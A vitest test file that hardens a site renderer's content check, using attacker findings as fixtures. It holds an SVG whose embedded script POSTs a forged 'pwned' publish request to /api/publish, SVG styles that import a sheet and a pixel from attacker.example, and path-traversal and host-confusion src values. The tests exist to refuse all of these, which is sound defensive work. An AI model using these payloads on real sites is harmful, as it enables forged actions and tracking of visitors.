// Issue 25 (hardening): what an attacker found in the content check, each with the attack as the fixture.
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadSite, publicFileExists } from '../../src/content/loadSite';
import { svgRefusals } from '../../src/content/svgSafety';
import { exampleRoot } from '../fixtures/exampleSite';
import { check, edit, pagesYaml, positionOf } from '../fixtures/site';

// A copy of the example site: its content and public/, whatever site is at the project's root.
const repo = exampleRoot;
let project: string;

beforeEach(() => {
  project = mkdtempSync(join(tmpdir(), 'content-hardening-'));
  for (const name of ['pages.yaml', 'nav.yaml']) cpSync(join(repo, name), join(project, name));
  cpSync(join(repo, 'public'), join(project, 'public'), { recursive: true });
});

afterEach(() => rmSync(project, { recursive: true, force: true }));

const pages = () => readFileSync(join(project, 'pages.yaml'), 'utf8');
const write = (file: string, text: string) => writeFileSync(join(project, file), text);
const problemsOf = () => loadSite(project).problems;

/** The SVG of finding 1: it reads the studio's publish status and posts to it when opened on its own. */
const SCRIPTED_SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 480"><script>fetch('/api/publish').then((r) => r.json()).then((s) => fetch('/api/publish', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ fingerprint: s.fingerprint, message: 'pwned' }) }))</script><rect width="640" height="480"/></svg>`;

describe('SVGs the site uses are checked like uploads (finding 1)', () => {
  it('the example site passes', () => {
    expect(problemsOf()).toEqual([]);
  });

  it('an SVG with a script that reached public/images without the upload check is a problem at the picture that names it', () => {
    write('public/images/hero-how.svg', SCRIPTED_SVG);
    const problems = problemsOf();
    expect(problems).toEqual([
      expect.objectContaining({ kind: 'unsafe-svg', file: 'pages.yaml', ...positionOf(pages(), '/images/hero-how.svg'), path: expect.stringMatching(/\.image\.src$/) }),
    ]);
    expect(problems[0]!.message).toMatch(/^`public\/images\/hero-how\.svg` is not a plain drawing: The SVG contains a <script> element/);
  });

  it('a picture replaced after a clean check is checked again (the results kept between runs follow the file)', () => {
    expect(problemsOf()).toEqual([]);
    expect(readdirSync(join(project, 'node_modules/.cache/site-renderer'))).toContain('svg-checks.json');
    write('public/images/hero-how.svg', SCRIPTED_SVG);
    expect(problemsOf()).toEqual([expect.objectContaining({ kind: 'unsafe-svg', ...positionOf(pages(), '/images/hero-how.svg') })]);
  });

  it('the favicon is checked too, at its line in nav.yaml', () => {
    write('public/favicon.svg', SCRIPTED_SVG.replace('viewBox="0 0 640 480"', 'viewBox="0 0 32 32"'));
    expect(problemsOf()).toEqual([expect.objectContaining({ kind: 'unsafe-svg', file: 'nav.yaml', path: 'site.favicon', ...positionOf(readFileSync(join(project, 'nav.yaml'), 'utf8'), '/favicon.svg'), message: expect.stringMatching(/^`public\/favicon\.svg` is not a plain drawing: /) })]);
  });
});

describe('a nested <style> does not hide the outer one (finding 3)', () => {
  const outerImport = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><style>@import url(https://attacker.example/x.css);<style></style> rect { fill: url(https://attacker.example/pixel.png) }</style><rect width="10" height="10"/></svg>`;

  it('the @import and the address of the outer <style> are found, and the element inside it is refused', () => {
    const reasons = svgRefusals(Buffer.from(outerImport));
    expect(reasons).toEqual([
      expect.stringMatching(/^The SVG's <style> element contains a <style> element; a style sheet holds only text\./),
      expect.stringMatching(/^The SVG's <style> element imports another style sheet \(@import\)/),
      expect.stringMatching(/^The SVG's <style> element refers to another file \(url\(https:\/\/attacker\.example\/x\.css\)\)/),
    ]);
  });

  it('two <style> elements one after the other are both checked', () => {
    const repeated = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><style>rect { fill: red }</style><style>@import "https://attacker.example/x.css";</style></svg>`;
    expect(svgRefusals(Buffer.from(repeated))).toEqual([expect.stringMatching(/imports another style sheet \(@import\)/)]);
  });
});

describe('a picture `src` is a path under public/ (finding 4)', () => {
  it.each([
    ['//127.0.0.1:4999/../images/hero-how.svg', 'starts with //, which browsers read as the address of another host'],
    ['/\\127.0.0.1:4999/../images/hero-how.svg', 'contains a backslash, which browsers read as a slash (even as the start of another host)'],
    ['/%5C127.0.0.1/../images/hero-how.svg', 'contains a backslash, which browsers read as a slash (even as the start of another host)'],
    ['/images/../images/hero-how.svg', 'has a `.` or `..` part; write the path from public/ without them'],
    ['/images/%2e%2e/images/hero-how.svg', 'has a `.` or `..` part; write the path from public/ without them'],
    ['/images//hero-how.svg', 'has an empty part (//) in the middle'],
  ])('`%s` is refused where it is written', (src, reason) => {
    write('pages.yaml', edit(pages(), 'src: /images/hero-how.svg', `src: ${src.includes('\\') ? `"${src.replace(/\\/g, '\\\\')}"` : src}`));
    expect(problemsOf()).toEqual([expect.objectContaining({ kind: 'invalid-value', file: 'pages.yaml', message: `\`${src}\` ${reason}` })]);
  });

  it('a file in a sibling folder such as public-x is not under public/', () => {
    mkdirSync(join(project, 'public-x'));
    writeFileSync(join(project, 'public-x/a.svg'), '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>');
    expect(publicFileExists(project)('/../public-x/a.svg')).toBe(false);
    expect(publicFileExists(project)('/images/hero-how.svg')).toBe(true);
  });
});

describe('page paths the build writes its own files to are refused (finding 8)', () => {
  it.each(['/_headers', '/_redirects', '/_error/500', '/assets', '/Assets/app', '/images', '/media/x', '/api/v1'])('a page at %s', (path) => {
    const text = edit(pagesYaml, '  - path: /about\n', `  - path: ${path}\n`);
    const problem = check(text).problems.find((one) => one.kind === 'reserved-path');
    expect(problem).toMatchObject({ file: 'pages.yaml', ...positionOf(text, `path: ${path}\n`), col: 11, path: 'pages[1].path' });
    expect(problem!.message).toBe(`path \`${path}\` is where the build puts the site's own files (/${path.split('/')[1]!.toLowerCase()}), so the page would never be shown there`);
  });

  it('paths that only start with the same letters are fine', () => {
    expect(check(edit(pagesYaml, '  - path: /about\n', '  - path: /assets-management\n')).problems.filter((one) => one.kind === 'reserved-path')).toEqual([]);
  });
});
